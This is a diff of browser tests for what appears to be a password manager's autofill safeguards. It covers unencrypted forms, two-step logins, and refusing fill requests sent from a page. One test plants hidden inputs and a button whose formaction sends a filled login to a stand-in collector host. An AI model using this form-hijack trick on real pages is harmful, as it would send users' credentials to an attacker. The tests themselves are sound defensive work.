@@ -133,7 +133,9 @@ def test_a_form_that_sends_unencrypted_asks_first(person: Person) -> None:
 
 def test_a_button_cannot_send_elsewhere_unnoticed(person: Person) -> None:
     """The address on a button counts as the form's does, and fields named like the form's own do not hide it."""
-    trick = login_page().replace("<button>", "<input name=action hidden><input name=elements hidden><button formaction=https://collector.test/>")
+    trick = login_page().replace(
+        "<button>", "<input name=action hidden><input name=elements hidden><button formaction=https://collector.test/>"
+    )
     person.keep(website(BANK))
     person.visit(BANK, trick)
     with person.inside() as popup:
@@ -244,7 +246,8 @@ def test_fill_anyway_is_for_the_host_that_was_named(person: Person) -> None:
 def test_a_log_in_in_two_steps_gets_what_each_step_asks_for(person: Person) -> None:
     """The user name alone where there is no password field yet."""
     person.keep(website(BANK))
-    step = "<form><h1>Log in</h1><label>User name <input name=username autocomplete=username></label><button>Next</button></form>"
+    field = "<label>User name <input name=username autocomplete=username></label>"
+    step = f"<form><h1>Log in</h1>{field}<button>Next</button></form>"
     person.visit(BANK, step)
     with person.inside() as popup:
         fill(person)
@@ -271,10 +274,12 @@ def test_a_page_cannot_ask_for_a_fill(person: Person) -> None:
         answer = person.control.evaluate(
             """async (item_id) => {
                 const [tab] = await chrome.tabs.query({ url: "https://bank.test/*" });
-                const ask = (item_id, tab_id) =>
-                    chrome.runtime.sendMessage({ type: "fill", wish: { item_id, tab_id } }).then((answer) => answer ?? "refused", () => "refused");
-                const [{ result }] = await chrome.scripting.executeScript({
-                    target: { tabId: tab.id }, func: ask, args: [item_id, tab.id] });
+                const ask = async (item_id, tab_id) => {
+                    const message = { type: "fill", wish: { item_id, tab_id, allowed: {} } };
+                    return (await chrome.runtime.sendMessage(message).catch(() => null)) ?? "refused";
+                };
+                const asking = { target: { tabId: tab.id }, func: ask, args: [item_id, tab.id] };
+                const [{ result }] = await chrome.scripting.executeScript(asking);
                 return result;
             }""",
             item_id,
